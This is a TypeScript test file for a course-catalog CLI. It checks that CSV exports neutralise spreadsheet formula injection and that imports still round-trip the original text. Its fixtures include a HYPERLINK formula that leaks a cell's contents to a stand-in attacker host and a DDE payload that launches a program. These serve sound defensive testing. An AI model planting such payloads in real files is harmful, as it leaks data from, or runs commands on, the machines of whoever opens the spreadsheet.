/**
 * A description like `=HYPERLINK("https://evil.example/?leak="&B2,"More info")` is text on the site, but a
 * live formula in the spreadsheet an admin opens `skillshelf export --format csv` in. The export must write
 * no cell a spreadsheet would run, and the import must still give back exactly what was exported.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { readCsvRecords } from '#db/imports/files/csv.ts';
import { runCli, tempDb, type TempDb } from '../cli/harness.ts';

/** What a spreadsheet runs as a formula at the start of a cell (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"More info")';

let source: TempDb;
let target: TempDb;
beforeEach(async () => {
  source = await tempDb();
  target = await tempDb();
});
afterEach(async () => {
  await source.remove();
  await target.remove();
});

/** Contents whose text starts with every character that needs the escape, the escape's own quote included. */
const hostile = [
  { name: 'Leaky sheet', description: HYPERLINK },
  { name: HYPERLINK, description: 'the name is the formula' },
  { name: '+SUM(1,2)', description: '-2+3' },
  { name: '@SUM(A1:A9)', description: "=cmd|' /C calc'!A0" },
  { name: "'Tis a course", description: "'=1+1" },
  { name: "''twice quoted", description: "'" },
  { name: 'Plain course', description: 'plain text, with a comma\n=a formula on its second line' },
  { name: '-1', description: '@mention' },
].map((row, i) => ({
  ...row,
  url: `https://course-${i}.example.org/`,
  cost: i % 2 ? 'Paid' : 'Free',
  hasCert: i % 3 === 0,
  category: i % 2 ? ['Data Science'] : [],
  techStack: ['Python', 'HTML/CSS'].slice(0, i % 3),
  createdAt: new Date(Date.UTC(2024, 0, i + 1, 12)).toISOString(),
}));

const fields = 'name, slug, url, image, description, cost, has_cert, category, tech_stack, type, created_at';
const catalogOf = (db: TempDb) => db.query(`SELECT ${fields} FROM contents ORDER BY created_at, slug`);

async function cellsOf(csv: string): Promise<string[]> {
  const cells: string[] = [];
  for await (const record of readCsvRecords([csv])) cells.push(...record.fields);
  return cells;
}

it('a CSV export starts no cell with = + - @ tab or CR, and imports back into exactly the same contents', async () => {
  const json = join(source.dir, 'hostile.json');
  writeFileSync(json, JSON.stringify(hostile));
  const created = await runCli(source.url, ['import', json]);
  expect(created.code, created.stdout + created.stderr).toBe(0);
  const original = await catalogOf(source);
  expect(original).toHaveLength(hostile.length);

  const csv = join(source.dir, 'catalog.csv');
  expect((await runCli(source.url, ['export', '--format', 'csv', '--out', csv])).code).toBe(0);
  const cells = await cellsOf(readFileSync(csv, 'utf8'));
  expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  expect(cells).toContain(`'${HYPERLINK}`);
  expect(cells).toContain("'''twice quoted");
  // Columns nobody types stay as they were.
  expect(cells).toContain('2024-01-01T12:00:00.000Z');
  expect(cells).toContain('Python|HTML/CSS');

  const imported = await runCli(target.url, ['import', csv]);
  expect(imported.code, imported.stdout + imported.stderr).toBe(0);
  expect(imported.stdout).toContain(`${hostile.length} created, 0 updated, 0 unchanged, 0 refused.`);
  expect(await catalogOf(target)).toEqual(original);
  // And a second import of the same file finds nothing to change.
  expect((await runCli(target.url, ['import', csv])).stdout).toContain(
    `0 created, 0 updated, ${hostile.length} unchanged, 0 refused.`,
  );
});

it('a CSV saved by a spreadsheet keeps its quote escapes, and imports as the text the cells show', async () => {
  // What a spreadsheet writes back for cells it showed as text: the leading quote kept.
  const csv = join(source.dir, 'edited.csv');
  writeFileSync(csv, `name,url,description\n'=1+1,https://sheet.example/,"'=HYPERLINK(""https://evil.example"")"\n`);
  expect((await runCli(source.url, ['import', csv])).code).toBe(0);
  expect(await source.query('SELECT name, description FROM contents')).toEqual([
    expect.objectContaining({ name: '=1+1', description: '=HYPERLINK("https://evil.example")' }),
  ]);
});
